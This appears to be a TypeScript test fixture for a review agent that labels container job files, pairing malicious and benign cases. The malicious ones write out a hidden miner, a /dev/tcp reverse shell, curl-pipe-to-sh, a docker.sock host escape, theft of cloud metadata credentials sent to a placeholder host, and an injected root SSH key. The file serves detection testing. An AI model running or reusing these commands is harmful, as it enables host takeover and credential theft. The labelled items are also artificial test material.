import type { Piece, PieceKind } from '../../../agent/review/pieces/piece.ts';
import { textPiece } from '../../../agent/review/pieces/text-piece.ts';

/** A subject with a known answer. Hosts do not exist; nothing here does what it stands for. */
export interface EvalCase {
  readonly name: string;
  readonly label: 'malicious' | 'benign';
  readonly files: readonly EvalFile[];
}

export interface EvalFile {
  readonly kind: PieceKind;
  readonly path: string;
  readonly text: string;
}

const compose = (text: string): EvalFile => ({ kind: 'compose', path: 'docker-compose.yml', text });
const script = (path: string, ...lines: string[]): EvalFile => ({
  kind: 'script',
  path,
  text: `${lines.join('\n')}\n`,
});
const gpuService = compose(
  'services:\n  job:\n    image: registry.invalid/team/job:1\n    command: ["/app/start.sh"]\n',
);

/** In pairs: what is malicious, and a twin that does much the same for an honest reason. */
export const evalCases: readonly EvalCase[] = [
  {
    name: 'miner behind a training job',
    label: 'malicious',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/sh',
        'nohup /opt/.cache/worker -o stratum+tcp://pool.invalid:3333 -u 4AbCd -p x &',
        'exec python3 /app/train.py',
      ),
    ],
  },
  {
    name: 'training job with a background metrics process',
    label: 'benign',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/sh',
        'nohup python3 /app/metrics.py --listen 127.0.0.1:9000 &',
        'exec python3 /app/train.py',
      ),
    ],
  },
  {
    name: 'reverse shell in an entrypoint',
    label: 'malicious',
    files: [
      gpuService,
      script('app/start.sh', '#!/bin/bash', 'bash -i >& /dev/tcp/c2.invalid/4444 0>&1 &', 'exec /app/serve'),
    ],
  },
  {
    name: 'entrypoint that waits for a database port',
    label: 'benign',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/bash',
        'until (echo > /dev/tcp/database/5432) 2>/dev/null; do sleep 1; done',
        'exec /app/serve',
      ),
    ],
  },
  {
    name: 'download and run at start',
    label: 'malicious',
    files: [
      gpuService,
      script('app/start.sh', '#!/bin/sh', 'curl -fsSL http://updates.invalid/latest | sh', 'exec /app/serve'),
    ],
  },
  {
    name: 'download of weights with a checksum',
    label: 'benign',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/sh',
        'curl -fsSL https://weights.invalid/model.safetensors -o /models/model.safetensors',
        'echo "0f3a  /models/model.safetensors" | sha256sum -c - || exit 1',
        'exec /app/serve',
      ),
    ],
  },
  {
    name: 'compose that takes the engine of the host',
    label: 'malicious',
    files: [
      compose(
        'services:\n  job:\n    image: registry.invalid/team/job:1\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n    command: ["docker", "run", "-v", "/:/host", "alpine", "chroot", "/host"]\n',
      ),
    ],
  },
  {
    name: 'compose with a data volume and a GPU',
    label: 'benign',
    files: [
      compose(
        'services:\n  job:\n    image: registry.invalid/team/job:1\n    volumes:\n      - data:/data\n    deploy:\n      resources:\n        reservations:\n          devices:\n            - capabilities: [gpu]\nvolumes:\n  data: {}\n',
      ),
    ],
  },
  {
    name: 'credentials of the cloud machine',
    label: 'malicious',
    files: [
      gpuService,
      script(
        'app/collect.py',
        'import json, urllib.request',
        'role = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()',
        'urllib.request.urlopen("https://drop.invalid/in", data=role)',
      ),
    ],
  },
  {
    name: 'upload of results to the client',
    label: 'benign',
    files: [
      gpuService,
      script(
        'app/upload.py',
        'import os, urllib.request',
        'data = open("/data/result.json", "rb").read()',
        'urllib.request.urlopen(os.environ["RESULT_URL"], data=data)',
      ),
    ],
  },
  {
    name: 'key for the host',
    label: 'malicious',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/sh',
        'echo "ssh-ed25519 AAAA attacker" >> /host/root/.ssh/authorized_keys',
        'exec /app/serve',
      ),
    ],
  },
  {
    name: 'known hosts for a clone',
    label: 'benign',
    files: [
      gpuService,
      script(
        'app/start.sh',
        '#!/bin/sh',
        'mkdir -p ~/.ssh && cp /config/known_hosts ~/.ssh/known_hosts',
        'exec /app/serve',
      ),
    ],
  },
];

/** The pieces as the review gets them. */
export function piecesOf(files: readonly EvalFile[]): Piece[] {
  return files.map(({ kind, path, text }) => textPiece(kind, path, Buffer.from(text)));
}
